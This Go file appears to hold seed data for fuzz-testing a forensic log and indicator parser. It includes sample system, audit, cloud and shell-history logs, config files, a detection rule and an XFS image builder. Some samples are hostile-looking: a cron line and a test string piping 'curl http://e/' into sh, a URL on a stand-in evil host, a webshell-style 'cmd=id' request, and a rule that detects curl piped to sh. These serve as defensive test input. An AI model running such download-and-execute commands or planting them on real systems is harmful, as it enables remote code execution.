package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"lagan/findings"
)

const criLog = `2026-01-02T03:04:05.123456789Z stdout P part one
2026-01-02T03:04:05.123456790Z stdout F  and two
2026-01-02T03:04:06Z stderr F error: no such file
2026-01-02T03:04:07+01:00 stdout F ` + "\x1b[31mred\x1b[0m\n"

const jsonLog = `{"log":"one \u001b[0m\n","stream":"stdout","time":"2026-01-02T03:04:05.123456789Z"}
{"log":"two","stream":"stderr","attrs":{"k":"v"},"time":"2026-01-02T03:04:05Z"}
{"log":" three\n","stream":"stderr","time":"2026-01-02T03:04:06.5+02:00"}
`

const syslogLines = `Oct  3 04:05:06 node sshd[812]: Accepted publickey for root from 192.0.2.7 port 50022 ssh2: RSA SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
Oct  3 04:05:07 node sshd[812]: Failed password for invalid user admin from 2001:db8::1 port 4 ssh2
Oct  3 04:05:08 node sudo:    ec2 : TTY=pts/0 ; PWD=/home/ec2 ; USER=root ; COMMAND=/bin/sh -c 'id; :'
Oct  3 04:05:08 node CRON[99]: (root) CMD (/usr/bin/run-parts /etc/cron.hourly)
<34>1 2026-10-03T22:14:15.003Z node su - ID47 [a@1 b="c\"d"] 'su root' failed
2026-10-03T22:14:15.003456+02:00 node kubelet[1]: E1003 22:14:15.000001       1 pod.go:1] "Error"
message repeated 5 times: [ x ]
`

const auditLog = `type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid=2 auid=1000 uid=0 exe="/usr/bin/id" key=(null)
type=EXECVE msg=audit(1700000000.123:42): argc=2 a0="id" a1=2D6E
type=PATH msg=audit(1700000000.123:42): item=0 name="/usr/bin/id" inode=7 dev=08:01 mode=0100755
type=PROCTITLE msg=audit(1700000000.123:42): proctitle=6964002D6E
type=EOE msg=audit(1700000000.123:42):
type=USER_LOGIN msg=audit(1700000001.000:43): pid=9 uid=0 auid=0 ses=1 msg='op=login id=0 exe="/usr/sbin/sshd" hostname=h addr=192.0.2.1 terminal=ssh res=success'
`

const kubeAudit = `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/pods/web/exec?command=sh","verb":"create","user":{"username":"admin","groups":["system:masters"]},"sourceIPs":["192.0.2.1"],"userAgent":"kubectl","objectRef":{"resource":"pods","namespace":"default","name":"web","subresource":"exec"},"responseStatus":{"code":101},"requestReceivedTimestamp":"2026-01-02T03:04:05.000001Z","stageTimestamp":"2026-01-02T03:04:05.000002Z"}
`

const trail = `{"Records":[{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","userName":"x","arn":"arn:aws:iam::1:user/x"},"eventTime":"2026-01-02T03:04:05Z","eventSource":"ec2.amazonaws.com","eventName":"CreateSnapshot","awsRegion":"eu-west-1","sourceIPAddress":"192.0.2.1","userAgent":"aws-cli","requestParameters":{"volumeId":"vol-1"},"responseElements":null,"eventID":"e"}]}
`

const flowLog = `version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status
2 123456789010 eni-1 192.0.2.1 198.51.100.2 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK
2 123456789010 eni-1 - - - - - - - 1431280876 1431280934 - NODATA
`

const accessLog = `192.0.2.1 - frank [10/Oct/2026:13:55:36 -0700] "GET /a.jsp?cmd=id HTTP/1.0" 200 2326 "http://e/" "curl/7"
::1 - - [10/Oct/2026:13:55:37 +0000] "\x16\x03" 400 - "-" "-"
`

const bashHistory = "#1700000000\nid\n#1700000001\ncat <<E\nx\nE\nls\n"

const zshHistory = ": 1700000000:0;id\n: 1700000001:2;cat <<E\\\nx\\\nE\nls\n\x83\xa0\n"

const errorLog = `2026/10/10 13:55:36 [error] 7#7: *1 open() "/usr/share/nginx/html/a" failed (2: No such file or directory), client: 192.0.2.1, server: localhost, request: "GET /a HTTP/1.1", host: "h"
[Sat Oct 10 13:55:37.123456 2026] [core:error] [pid 7:tid 8] [client 192.0.2.1:4] AH00126: Invalid URI in request GET /../ HTTP/1.1
`

const falcoLog = `{"hostname":"node-1","output":"09:24:40.000000001: Notice A shell was spawned","priority":"Notice","rule":"Terminal shell in container","source":"syscall","tags":["container"],"time":"2026-11-22T09:24:40.000000001Z","output_fields":{"container.id":"a8666bc29f51","evt.time":1795339480000000001,"proc.cmdline":"sh -i","proc.pid":4242,"user.loginuid":-1}}
`

const daemonLog = `time="2026-01-02T03:04:05.000000006Z" level=info msg="Exec for \"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999\" with command [sh -c id], tty true"
E1003 22:14:15.000001       1 kubelet.go:1] "SyncLoop ADD" source="api" pods=["default/web-0"]
kernel: oom-kill:constraint=CONSTRAINT_MEMCG,task_memcg=/docker/aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999,task=java,pid=7,uid=0
time="2026-01-02T03:04:05Z" level=info msg="CreateContainer within sandbox \"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999\" for &ContainerMetadata{Name:web,Attempt:0,} returns container id \"bbbb\""
`

const packageLog = `2026-01-02 03:04:05 status installed nmap:amd64 7.93
2026-01-02 03:04:05 install curl:amd64 <none> 7.88.1-10
2026-01-02T03:04:05+0000 SUBDEBUG Installed: nmap-3:7.92-1.x86_64
Jan 02 03:04:05 Installed: nmap-7.92-1.x86_64
`

const crontab = "SHELL=/bin/sh\nCRON_TZ=UTC\n# c\n*/5 1-3,7 * jan mon root  curl http://e/ | sh%x\\%y\n@reboot root /x\n"

const atJob = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail u 0\numask 22\nHOME=/h; export HOME\ncd /h || {\n\t echo 'x' >&2\n\t exit 1\n}\nid\n"

const unitFile = "[Unit]\nDescription=a \\\n b\n[Service]\nUser=u\nExecStart=-/bin/sh -c 'id; :'\nEnvironment=\"A=1 2\" B=3\nRestart=always\n[Install]\nWantedBy=multi-user.target\n[Timer]\nOnCalendar=*-*-* 4:00\nUnit=x.service\n"

const sudoersFile = "Defaults env_reset\nUser_Alias A = a, %b\nroot ALL=(ALL:ALL) ALL\nA h=(u) NOPASSWD: /bin/x, \\\n !/bin/y\n@includedir /etc/sudoers.d\n"

const authorizedKeys = `# keys
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8dC1m1c3Vx0Y2b3Jk0a1x2b3d4e5f6g7h8i9j0k1l2 root@kali
command="echo \"a b\"",no-pty ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDx x
`

const knownHosts = `|1|F1E1KeoE/eEWhi10WpGv4OdiO6Y=|3988QV0VE8wmZL7suNrYQLITLCg= ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8dC1m1c3Vx0Y2b3Jk0a1x2b3d4e5f6g7h8i9j0k1l2
@revoked [h]:22,192.0.2.1 ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDx
`

const aptHistory = `
Start-Date: 2026-01-02  03:04:05
Commandline: apt-get install nmap
Requested-By: ubuntu (1000)
Install: nmap:amd64 (7.93), libpcap0.8:amd64 (1.10, automatic)
End-Date: 2026-01-02  03:04:09
`

const banLog = `2026-01-02 03:04:05,123 fail2ban.filter         [812]: INFO    [sshd] Found 192.0.2.7 - 2026-01-02 03:04:05
2026-01-02 03:04:06,001 fail2ban.actions        [812]: NOTICE  [sshd] Ban 192.0.2.7
2026-01-02 03:14:06,001 fail2ban.actions        [812]: NOTICE  [sshd] Unban 2001:db8::1
`

const ruleFile = `title: A shell
id: 0f06a3a5-6a09-413f-8743-e6cf35561297
level: high
tags: [attack.execution, attack.t1059.004]
logsource: {product: lagan, category: command}
detection:
  shell:
    command|contains|all: [curl, "| sh"]
    path|re: '^/(tmp|dev/shm)/[a-z]{1,8}$'
  not_root: {user|startswith: ["u", "v"]}
  condition: shell and not 1 of not_*
`

const indicatorList = "203.0.113.80\n198.51.100.0/24\nevil[.]example\nhxxp://evil.example/x\n/tmp/.x\n44d88612fea8a8f36de82e1278abb02f # eicar\n"

func readRules(m *mutant, told func(error)) {
	s := &findings.Set{}
	told(s.Load("rules.yml", m.bytes()))
	for _, kind := range []string{findings.KindFile, findings.KindCommand, findings.KindLog, findings.KindContainer} {
		sub := findings.NewSubject(kind)
		sub.Set("path", "/tmp/abcdef")
		sub.Set("command", "curl http://e/ | sh")
		s.Match(sub)
	}
}

func readIndicators(m *mutant, told func(error)) {
	list, err := findings.ReadIndicators(io.NewSectionReader(m, 0, m.Size()))
	if err != nil {
		told(err)
		return
	}
	list.Text("curl http://a.evil.example/ from 203.0.113.80")
	list.Path("/tmp/.x")
}

// localLog is a log of Docker's local driver: entry.proto between two lengths.
func localLog() string {
	var b strings.Builder
	for i := range 20 {
		entry := []byte{0x0a, 6}
		entry = append(entry, "stdout"...)
		entry = append(entry, 0x10)
		entry = binary.AppendUvarint(entry, uint64(1700000000000000000+i))
		line := strings.Repeat("x", i*5)
		entry = append(append(append(entry, 0x1a), byte(len(line))), line...)
		entry = append(entry, 0x20, byte(i%2))
		if i%5 == 0 {
			entry = append(entry, 0x2a, 6, 0x0a, 2, 'i', 'd', 0x10, 1)
		}
		var n [4]byte
		binary.BigEndian.PutUint32(n[:], uint32(len(entry)))
		b.Write(n[:])
		b.Write(entry)
		b.Write(n[:])
	}
	return b.String()
}

// crashed is an XFS whose log is dirty: a copy of its image while the kernel
// has it mounted. It takes root and xfsprogs.
func crashed() ([]seed, error) {
	dir, err := os.MkdirTemp("", "mutants-")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)
	image, copied := filepath.Join(dir, "image"), filepath.Join(dir, "copy")
	script := fmt.Sprintf(`set -e
truncate -s 24M %[1]s
TEST_DIR=1 TEST_DEV=1 QA_CHECK_FS=1 mkfs.xfs -q %[1]s
mkdir %[2]s/mnt
mount -o loop %[1]s %[2]s/mnt
trap 'umount %[2]s/mnt' EXIT
cd %[2]s/mnt
for i in $(seq 60); do mkdir -p d$((i%%7)); echo $i >d$((i%%7))/f$i; ln -s x$i d$((i%%7))/l$i; setfattr -n user.a -v $i d$((i%%7))/f$i 2>/dev/null || :; done
sync; for i in $(seq 30); do rm d$((i%%7))/f$i; done; mv d1 d2/e; echo more >>d3/f31; sync d3/f31
cp %[1]s %[3]s
cd /`, image, dir, copied)
	if said, err := exec.Command("sh", "-c", script).CombinedOutput(); err != nil {
		return nil, missing("mkfs.xfs", fmt.Errorf("%w: %s", err, said))
	}
	b, err := os.ReadFile(copied)
	return []seed{newSeed("crashed", b)}, err
}
